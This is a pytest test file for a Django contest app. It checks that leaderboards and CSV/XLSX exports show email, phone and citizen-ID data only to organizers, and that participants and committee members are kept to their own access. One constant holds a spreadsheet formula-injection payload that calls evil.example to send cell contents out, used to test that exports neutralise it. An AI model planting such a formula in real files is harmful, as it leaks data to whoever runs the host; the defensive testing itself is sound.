"""Leaderboards and results: who sees personal data, and the exports organizers download."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.contest.conftest import finished_attempt
from tests.helpers import english_client

PHONE = "0912345678"
CCCD = "089201000123"


def client_for(user=None):
    client = english_client()
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def results(round_open, phuong, dan):
    """Phuong (with a phone and a CCCD) and Dan have finished round 1."""
    assert phuong.phone == PHONE and phuong.citizen_id == CCCD
    finished_attempt(round_open, phuong, correct=5, seconds=100)
    finished_attempt(round_open, dan, correct=3, seconds=200)
    return round_open


def leaderboard_url(round):
    return f"/c/{round.contest.slug}/rounds/{round.number}/leaderboard/"


def assert_no_personal_data(content: bytes, *people) -> None:
    for person in people:
        assert person.email.encode() not in content
    assert PHONE.encode() not in content
    assert CCCD.encode() not in content


@pytest.mark.django_db
@pytest.mark.parametrize(
    "viewer", [None, "dan", "olga"], ids=["anonymous", "participant", "organizer"]
)
def test_the_public_leaderboard_shows_names_and_units_but_no_e_mail_phone_or_cccd(
    results, phuong, dan, olga, viewer
):
    user = {"dan": dan, "olga": olga}.get(viewer)

    page = client_for(user).get(leaderboard_url(results))

    assert page.status_code == 200
    text = page.content.decode()
    assert text.index("Phương Công Chức") < text.index("Dân Công Dân")
    assert "Sở Tư pháp" in text and "Huyện Chợ Mới" in text
    assert "5/5" in text and "01:40" in text
    assert_no_personal_data(page.content, phuong, dan)


@pytest.mark.django_db
def test_the_public_leaderboard_is_marked_provisional_while_the_round_is_open(results):
    page = client_for().get(leaderboard_url(results))

    assert b"Provisional: the round is still open." in page.content


@pytest.mark.django_db
def test_the_organizer_ranking_page_includes_e_mail_phone_and_cccd(results, olga, phuong):
    page = client_for(olga).get(f"/manage/rounds/{results.pk}/ranking/")

    assert page.status_code == 200
    assert phuong.email.encode() in page.content
    assert PHONE.encode() in page.content
    assert CCCD.encode() in page.content


@pytest.mark.django_db
def test_the_committee_sees_the_ranking_without_personal_data(results, khoa, phuong, dan):
    page = client_for(khoa).get(f"/manage/rounds/{results.pk}/ranking/")

    assert page.status_code == 200
    assert "Phương Công Chức" in page.content.decode()
    assert_no_personal_data(page.content, phuong, dan)


@pytest.mark.django_db
def test_the_organizer_csv_export_includes_personal_data(results, olga, phuong):
    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read Vietnamese"
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, first = rows[0], rows[1]
    assert header[:3] == ["Rank", "Full name", "Unit"]
    assert header[-3:] == ["E-mail", "Mobile phone", "Citizen ID (CCCD)"]
    assert first[:3] == ["1", "Phương Công Chức", "Sở Tư pháp"]
    assert first[-3:] == [phuong.email, PHONE, CCCD]
    assert len(rows) == 3


@pytest.mark.django_db
def test_the_committee_csv_export_leaves_personal_data_out(results, khoa, phuong, dan):
    response = client_for(khoa).get(f"/manage/rounds/{results.pk}/export.csv")

    assert response.status_code == 200
    assert_no_personal_data(response.content, phuong, dan)
    assert "E-mail" not in response.content.decode("utf-8")


@pytest.mark.django_db
def test_the_organizer_xlsx_export_has_the_ranking_with_personal_data_and_the_winners(
    results, olga, phuong
):
    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.xlsx")

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    ranking, winners = book.worksheets
    header = [c.value for c in ranking[1]]
    assert header[-3:] == ["E-mail", "Mobile phone", "Citizen ID (CCCD)"]
    first = [c.value for c in ranking[2]]
    assert first[:5] == [1, "Phương Công Chức", "Sở Tư pháp", "Civil servant or public employee", 5]
    assert first[-3:] == [phuong.email, PHONE, CCCD]
    assert ranking.max_row == 3
    assert [c.value for c in winners[2]] == ["Giải Nhất", 1, "Phương Công Chức", "Sở Tư pháp", 5]
    assert [c.value for c in winners[3]][:3] == ["Giải Nhì", 2, "Dân Công Dân"]


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


@pytest.mark.django_db
def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv_export(results, olga, phuong):
    phuong.full_name = FORMULA_NAME
    phuong.save()

    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][1] == "'" + FORMULA_NAME
    assert rows[2][1] == "Dân Công Dân"


@pytest.mark.django_db
def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx_export(results, olga, phuong):
    phuong.full_name = FORMULA_NAME
    phuong.save()

    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.xlsx")

    ranking, winners = load_workbook(io.BytesIO(response.content)).worksheets
    for cell in (ranking.cell(row=2, column=2), winners.cell(row=2, column=3)):
        assert cell.value == FORMULA_NAME
        assert cell.data_type == "s", "a formula would run when the organizer opens the file"


@pytest.mark.django_db
def test_the_committee_xlsx_export_leaves_personal_data_out(results, khoa):
    response = client_for(khoa).get(f"/manage/rounds/{results.pk}/export.xlsx")

    book = load_workbook(io.BytesIO(response.content))
    values = {str(c.value) for row in book.worksheets[0].iter_rows() for c in row}
    assert PHONE not in values and CCCD not in values
    assert "E-mail" not in values


@pytest.mark.django_db
def test_an_unknown_export_format_is_not_found(results, olga):
    assert client_for(olga).get(f"/manage/rounds/{results.pk}/export.pdf").status_code == 404


@pytest.mark.django_db
def test_participants_get_403_on_every_manage_page(results, dan):
    client = client_for(dan)
    pk = results.pk

    for url in (
        "/manage/",
        "/manage/contests/new/",
        f"/manage/contests/{results.contest.pk}/",
        f"/manage/rounds/{pk}/",
        f"/manage/rounds/{pk}/ranking/",
        f"/manage/rounds/{pk}/export.csv",
        f"/manage/rounds/{pk}/export.xlsx",
    ):
        assert client.get(url).status_code == 403, url
    assert client.post(f"/manage/rounds/{pk}/close/").status_code == 403


@pytest.mark.django_db
def test_anonymous_visitors_are_sent_to_sign_in_from_manage_pages(results):
    response = client_for().get(f"/manage/rounds/{results.pk}/ranking/")

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.django_db
def test_the_committee_reads_results_but_cannot_change_anything(results, khoa):
    client = client_for(khoa)

    page = client.get(f"/manage/rounds/{results.pk}/")
    assert page.status_code == 200
    assert b"Close now" not in page.content
    assert client.post(f"/manage/rounds/{results.pk}/close/").status_code == 403
    assert client.get("/manage/contests/new/").status_code == 403


@pytest.mark.django_db
def test_the_round_manage_page_shows_the_summary_and_the_winners(results, olga):
    page = client_for(olga).get(f"/manage/rounds/{results.pk}/")

    text = page.content.decode()
    assert page.status_code == 200
    assert "2 participants" in text
    assert "Civil servants: 1" in text and "Citizens: 1" in text
    assert "Giải Nhất" in text and "Giải Nhì" in text
